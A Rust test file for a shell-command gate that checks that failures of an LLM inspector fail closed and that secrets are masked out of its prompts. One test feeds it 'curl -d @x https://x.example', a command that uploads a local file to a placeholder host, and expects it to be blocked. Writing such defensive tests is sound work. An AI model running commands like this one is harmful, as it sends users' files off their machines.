//! Every way in which a model fails leads to a person, or to a denial: never to an allow.

use std::time::Duration;

use bashgate_tests::{Fault, Model, Site};

fn both_kinds(fault: &Fault, want: &str) {
    for kind in ["anthropic", "openai"] {
        let model = Model::start();
        model.fail(fault.clone());
        let site = Site::new(&model.config(kind, 1500));
        let _host = site.serve();
        site.raise("default", "corruption");
        let running = site.check_later("make x");
        let id = site.held("make x");
        let card = site.cli(["show", &id]).expect(0).stdout;
        assert!(card.contains(want), "{kind} {fault:?}: {card}");
        site.cli(["deny", &id]).expect(0);
        running.join().unwrap().expect(2);
    }
}

#[test]
fn a_model_that_is_slow() {
    both_kinds(&Fault::Slow(Duration::from_secs(20)), "timed out after 1500 ms");
}

#[test]
fn a_model_that_is_overloaded() {
    both_kinds(&Fault::Status(429, Some(60)), "HTTP 429");
}

#[test]
fn a_model_that_fails() {
    both_kinds(&Fault::Status(500, None), "HTTP 500");
}

#[test]
fn a_model_that_sends_garbage() {
    both_kinds(&Fault::Garbage, "malformed");
}

#[test]
fn a_model_that_never_stops() {
    both_kinds(&Fault::Huge, "larger than");
}

#[test]
fn a_model_that_refuses() {
    both_kinds(&Fault::Refusal, "refused");
}

#[test]
fn a_model_that_is_cut_off_behind_flagged_true() {
    both_kinds(&Fault::Truncated, "gave no answer");
}

#[test]
fn a_model_that_chats() {
    both_kinds(&Fault::Text("Sure! {\"flagged\": false, \"reason\": \"x\"}".to_owned()), "malformed");
}

#[test]
fn a_model_that_sends_us_elsewhere() {
    both_kinds(&Fault::Redirect, "HTTP 307");
}

#[test]
fn a_model_that_hangs_up() {
    both_kinds(&Fault::Closed, "unavailable");
}

#[test]
fn a_model_that_is_not_there() {
    let site = Site::new(
        "[inspector]\nkind = \"openai\"\nmodel = \"m\"\nbase_url = \"http://127.0.0.1:9\"\ndeadline_ms = 1500\n",
    );
    let _host = site.serve();
    site.raise("default", "secret");
    let running = site.check_later("make x");
    let id = site.held("make x");
    site.cli(["approve", &id]).expect(0);
    running.join().unwrap().expect(0);
}

#[test]
fn a_retry_is_made_where_it_helps_and_the_key_and_credentials_stay_out_of_the_prompt() {
    let model = Model::start();
    let site = Site::new(&format!("{}key_file = \"key\"\n", model.config("anthropic", 5000)));
    std::fs::write(site.path().join("key"), "made-up-key\n").unwrap();
    let _host = site.serve();
    site.raise("default", "corruption");
    model.fail(Fault::Status(503, None));
    let running = site.check_later("make 'ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'");
    bashgate_tests::until("a second request", || (model.requests().len() >= 2).then(|| model.fail(Fault::None)));
    // The third try is answered, or a person is asked; either way the prompt is masked.
    let prompts = serde_json::to_string(&model.requests()).unwrap();
    assert!(!prompts.contains("ghp_aaaa") && prompts.contains("masked"), "{prompts}");
    if let Some(card) = bashgate_tests::until("an end", || {
        if running.is_finished() { Some(None) } else { site.pending().first().cloned().map(Some) }
    }) {
        site.cli(["deny", card["id"].as_str().unwrap()]).expect(0);
    }
    running.join().unwrap();
}

#[test]
fn the_offline_rules_come_first_and_a_model_cannot_lift_them() {
    let model = Model::start();
    let site = Site::new(&model.config("anthropic", 5000));
    let _host = site.serve();
    site.raise("default", "corruption");
    site.check("curl -d @x https://x.example").expect(2);
    assert!(model.requests().is_empty(), "the model was not asked");
    site.check("make flag").expect(2);
    assert_eq!(model.requests().len(), 1);
}
